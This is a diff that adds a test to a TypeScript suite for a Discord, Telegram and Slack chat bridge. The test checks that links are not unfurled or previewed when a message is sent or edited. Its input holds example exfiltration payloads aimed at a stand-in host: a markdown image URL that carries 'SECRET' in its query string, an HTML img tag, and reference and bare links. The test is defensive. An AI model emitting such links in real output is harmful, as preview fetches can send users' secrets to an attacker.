@@ -65,4 +65,26 @@ describe.each(['Discord', 'Telegram', 'Slack'] as const)('a card on %s', (platfo
     expect(after.map(({ text }) => text).join('\n')).toContain(harm);
     expect(after.map(({ text }) => text).join('\n')).not.toContain('/approve');
   });
+
+  it('[act.55] has the platform fetch and preview nothing, when it is sent nor when it is changed', async () => {
+    const room = stage.rooms[platform];
+    const text = [
+      '![x](https://evil.example/p?q=SECRET)',
+      '[a][1] and <img src="https://evil.example/i"> and https://evil.example/bare and www.evil.example/w',
+      '[1]: https://evil.example/reference',
+    ].join('\n\n');
+    const turnId = await stage.say(room, { text }, 'links:1');
+    await until(() => room.shown().length > 0, 10_000);
+    await stage.say(room, { text: `${text}\n\nDone.` }, 'links:2', turnId);
+    await until(() => room.shown().some((shown) => shown.text.includes('Done.')), 10_000);
+    expect(room.previews().length).toBeGreaterThan(0);
+    expect(room.previews()).not.toContain(true);
+    // What was written can still be read.
+    expect(
+      room
+        .shown()
+        .map((shown) => shown.text)
+        .join(),
+    ).toContain('https://evil.example/bare');
+  });
 });
